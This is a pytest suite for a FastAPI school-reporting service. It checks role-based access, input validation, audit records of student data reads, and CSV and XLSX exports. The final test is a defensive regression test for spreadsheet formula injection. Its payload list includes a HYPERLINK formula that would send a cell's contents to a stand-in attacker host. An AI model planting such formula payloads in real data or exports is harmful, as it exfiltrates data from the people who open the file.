"""The report API and pages through FastAPI: who sees what, bad input, exports, audit."""

from __future__ import annotations

import csv
import io

import httpx
import pytest
from openpyxl import load_workbook

from hoks_reporting.adapters.http_api import ReportDeps, build_api_router
from hoks_reporting.adapters.web_pages import build_page_router
from hoks_shared.auth import Role
from hoks_testing.auth import RecordingAudit, app_for_tests, auth_headers

from .institution import S1, T1, T2, UNIT, YEAR, events
from .test_report_figures import EXPECTED_T1, project

Q = f"year={YEAR}&round=1&as_of=2026-11-28"


class FakeNames:
    async def staff(self, oids):
        return {o: f"Opettaja {o[-2:]}" for o in oids if o}

    async def students(self, oids):
        return {o: f"Oppilas {o[-1]}" for o in oids}


@pytest.fixture
async def client():
    store = await project(events())
    audit = RecordingAudit()
    deps = ReportDeps(store, FakeNames())  # type: ignore[arg-type]
    app = app_for_tests([build_api_router(deps), build_page_router(deps)], audit=audit)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url="http://test") as c:
        c.audit = audit  # type: ignore[attr-defined]
        yield c


MANAGER = dict(staff_oid="1.2.246.562.24.20000000099", unit_ids=[UNIT])


async def test_manager_gets_the_per_teacher_report_of_their_unit(client):
    r = await client.get(f"/reports/units/{UNIT}?{Q}", headers=auth_headers(Role.EDUCATION_MANAGER, **MANAGER))
    assert r.status_code == 200, r.text
    rows = {row["teacher_oid"]: row for row in r.json()["teachers"]}
    assert {k: rows[T1][k] for k in EXPECTED_T1} == EXPECTED_T1
    assert rows[T1]["teacher_name"] == f"Opettaja {T1[-2:]}"


async def test_default_round_is_the_latest_with_figures(client):
    r = await client.get(f"/reports/units/{UNIT}?year={YEAR}&as_of=2026-11-28",
                         headers=auth_headers(Role.DIRECTOR, staff_oid="1.2.246.562.24.20000000098"))
    assert r.status_code == 200 and r.json()["round"] == 1


@pytest.mark.parametrize("headers,status", [
    ({}, 401),
    (auth_headers(Role.EDUCATION_MANAGER, staff_oid="1.2.246.562.24.20000000097", unit_ids=["unit-other"]), 403),
    (auth_headers(Role.RESPONSIBLE_TEACHER, staff_oid=T1, unit_ids=[UNIT]), 403),
    (auth_headers(Role.CURATOR, staff_oid="1.2.246.562.24.20000000096", unit_ids=[UNIT]), 403),
    (auth_headers(Role.COUNSELOR, staff_oid="1.2.246.562.24.20000000095", unit_ids=[UNIT]), 200),
])
async def test_unit_report_access(client, headers, status):
    assert (await client.get(f"/reports/units/{UNIT}?{Q}", headers=headers)).status_code == status


@pytest.mark.parametrize("query,needle", [
    ("year=2026", "year"), ("year=2026-2028", "consecutive"), ("round=13", "round"), ("as_of=yesterday", "as_of"),
    ("stale_months=0", "stale_months"),
])
async def test_bad_input_gets_422_with_a_reason(client, query, needle):
    r = await client.get(f"/reports/units/{UNIT}?{query}", headers=auth_headers(Role.DIRECTOR))
    assert r.status_code == 422
    assert needle in r.text


async def test_bad_unit_and_teacher_ids_are_rejected(client):
    h = auth_headers(Role.DIRECTOR)
    assert (await client.get("/reports/units/%20bad", headers=h)).status_code == 422
    assert (await client.get(f"/reports/units/{UNIT}/teachers/not-an-oid", headers=h)).status_code == 422


async def test_teacher_sees_only_their_own_page_and_their_students_by_name(client):
    own = auth_headers(Role.RESPONSIBLE_TEACHER, staff_oid=T1, unit_ids=[UNIT])
    r = await client.get(f"/reports/units/{UNIT}/teachers/{T1}?{Q}", headers=own)
    assert r.status_code == 200 and r.json()["groups"][0]["group_id"] == "G1"
    assert (await client.get(f"/reports/units/{UNIT}/teachers/{T2}?{Q}", headers=own)).status_code == 403
    students = await client.get(f"/reports/units/{UNIT}/teachers/{T1}/groups/G1/students?{Q}", headers=own)
    assert students.status_code == 200
    assert {s["student_oid"]: s["name"] for s in students.json()}[S1] == "Oppilas 1"


async def test_student_rows_are_audited_and_nameless_for_a_counselor(client):
    counselor = auth_headers(Role.COUNSELOR, staff_oid="1.2.246.562.24.20000000095", unit_ids=[UNIT])
    r = await client.get(f"/reports/units/{UNIT}/teachers/{T1}/groups/G1/students?{Q}", headers=counselor)
    assert r.status_code == 200
    assert all(s["name"] is None for s in r.json())
    records = client.audit.records
    assert len(records) == 1  # one record per request, naming every student shown
    assert set(records[0].student_oids) == {s["student_oid"] for s in r.json()} and len(r.json()) > 1
    assert records[0].action == "read" and "students" in records[0].endpoint


async def test_csv_and_xlsx_exports_carry_the_same_figures(client):
    h = auth_headers(Role.EDUCATION_MANAGER, **MANAGER)
    r = await client.get(f"/reports/units/{UNIT}.csv?{Q}&lang=en", headers=h)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Responsible teacher", "OID", "Students"]
    t1 = next(row for row in rows if row[1] == T1)
    assert int(t1[rows[0].index("Students reviewed")]) == EXPECTED_T1["students_checked"]
    assert rows[-1][0] == "Total"
    x = await client.get(f"/reports/units/{UNIT}.xlsx?{Q}", headers=h)
    assert x.status_code == 200
    sheet = load_workbook(io.BytesIO(x.content)).active
    header = [c.value for c in sheet[3]]
    assert header[:3] == ["Vastuuopettaja", "OID", "Opiskelijat"]  # Finnish by default
    t1_row = next(r for r in sheet.iter_rows(min_row=4, values_only=True) if r[1] == T1)
    assert t1_row[header.index("Käsitellyt opiskelijat")] == EXPECTED_T1["students_checked"]


async def test_unit_page_renders_the_table_and_charts_in_three_languages(client):
    h = auth_headers(Role.EDUCATION_MANAGER, **MANAGER)
    for lang, word in (("fi", "Yhteenvetoraportti vastuuopettajittain"), ("sv", "Sammanfattande rapport"),
                       ("en", "Summary report per responsible teacher")):
        r = await client.get(f"/ui/reports/units/{UNIT}?{Q}&lang={lang}", headers=h)
        assert r.status_code == 200 and word in r.text
    assert f'data-teacher="{T1}"' in r.text and "<svg" in r.text
    assert r.text.count("<rect") >= 6


async def test_pages_redirect_to_sign_in_without_a_session(client):
    r = await client.get(f"/ui/reports/units/{UNIT}")
    assert r.status_code == 303 and "/auth/login" in r.headers["location"]


async def test_openapi_documents_the_report_endpoints(client):
    spec = (await client.get("/openapi.json")).json()
    assert "/reports/units/{unit_id}" in spec["paths"]
    assert "/reports/units/{unit_id}.xlsx" in spec["paths"]
    assert "/reports/units/{unit_id}/teachers/{teacher_oid}/groups/{group_id}/students" in spec["paths"]


async def test_drill_down_pages_teacher_then_group_with_names_and_audit(client):
    h = auth_headers(Role.EDUCATION_MANAGER, **MANAGER)
    teacher = await client.get(f"/ui/reports/units/{UNIT}/teachers/{T1}?{Q}&lang=en", headers=h)
    assert teacher.status_code == 200 and 'data-group="G1"' in teacher.text
    assert f"/ui/reports/units/{UNIT}/teachers/{T1}/groups/G1?" in teacher.text
    group = await client.get(f"/ui/reports/units/{UNIT}/teachers/{T1}/groups/G1?lang=sv", headers=h)
    assert group.status_code == 200 and "Oppilas 1" in group.text and f'data-student="{S1}"' in group.text
    assert any(S1 in r.student_oids for r in client.audit.records)
    other = auth_headers(Role.RESPONSIBLE_TEACHER, staff_oid=T2, unit_ids=[UNIT])
    assert (await client.get(f"/ui/reports/units/{UNIT}/teachers/{T1}/groups/G1", headers=other)).status_code == 403
    missing = await client.get(f"/ui/reports/units/{UNIT}/teachers/{T1}/groups/NOPE?{Q}", headers=h)
    assert missing.status_code == 404


FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?"&B5, "Klikkaa")', "+SUM(1,2)", "-2+3", "@SUM(A1)",
                 "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("name", FORMULA_NAMES)
async def test_exports_never_carry_a_formula_from_a_name(name):
    """The finding: a staff name from the SIS feed was written raw into the CSV and as a live formula into the XLSX."""

    class FormulaNames(FakeNames):
        async def staff(self, oids):
            return {o: name for o in oids if o}

    deps = ReportDeps(await project(events()), FormulaNames())  # type: ignore[arg-type]
    app = app_for_tests([build_api_router(deps)], audit=RecordingAudit())
    h = auth_headers(Role.EDUCATION_MANAGER, **MANAGER)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url="http://test") as c:
        r = await c.get(f"/reports/units/{UNIT}.csv?{Q}", headers=h)
        x = await c.get(f"/reports/units/{UNIT}.xlsx?{Q}", headers=h)
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";"))
    named = [row[0] for row in rows if row[1] == T1]
    assert named == ["'" + name]  # shown as text by spreadsheets
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    sheet = load_workbook(io.BytesIO(x.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell in the workbook"
    t1_name = next(row[0] for row in sheet.iter_rows(min_row=4) if row[1].value == T1)
    assert t1_name.value.strip() == name.strip() and t1_name.data_type == "s"  # XML keeps \r as \n
